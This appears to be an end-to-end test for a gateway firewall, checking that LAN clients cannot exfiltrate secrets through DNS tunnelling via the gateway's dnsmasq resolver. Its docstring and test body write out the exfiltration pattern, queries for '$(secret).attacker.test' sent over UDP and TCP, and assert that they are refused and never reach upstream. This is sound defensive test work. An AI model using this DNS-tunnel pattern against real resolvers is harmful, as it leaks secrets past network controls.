"""The tunnel through the gateway's resolver: a LAN client asks the gateway's dnsmasq
for `$(secret).attacker.test`, and dnsmasq, a process of the gateway's own that may ask
upstream anything, recurses with the secret. The query reaches the gateway on its input
hook, not its forward hook, so it must be judged there, by the LAN client's policy (its
source address), over UDP and TCP, IPv4 and IPv6."""

from __future__ import annotations

import uuid

from tests.e2e.gateway_lab import LAN_A_GATEWAY_V4, LAN_A_GATEWAY_V6, GatewayLab
from tests.e2e.queries import dig
from tests.e2e.test_gateway import start


def test_a_lan_clients_secret_never_leaves_through_the_gateways_resolver(
        gateway: GatewayLab) -> None:
    log = start(gateway, nat=True, web=False)
    a = gateway.lan_a
    secrets = {f"s{uuid.uuid4().hex}": (server, tcp)
               for server in (LAN_A_GATEWAY_V4, LAN_A_GATEWAY_V6) for tcp in (False, True)}
    for name, (server, tcp) in secrets.items():
        status, answers, _ = dig(gateway, f"{name}.attacker.test", ns=a, server=server,
                                 tcp=tcp)
        # UDP: REFUSED at once; TCP: the stream is reset (dig reports an error)
        assert (status, answers) == ("error" if tcp else "REFUSED", []), (server, tcp)
    status, answers, _ = dig(gateway, "a.test", ns=a, server=LAN_A_GATEWAY_V4)
    assert status == "NOERROR" and answers, "its own names still resolve"
    text = log.read_text()
    assert "a.test" in text, "the server logs what it gets"
    for name in secrets:
        assert name not in text, f"{name} reached the upstream resolver"
    refused = gateway.wait_for_event(lambda e: e.get("dns", {}).get("question", {}).get(
        "name", "").endswith(".attacker.test"))
    assert refused["nfguard"]["client"] == "lan-a"
    assert refused["observer"]["ingress"]["interface"]["name"] == "lan1"
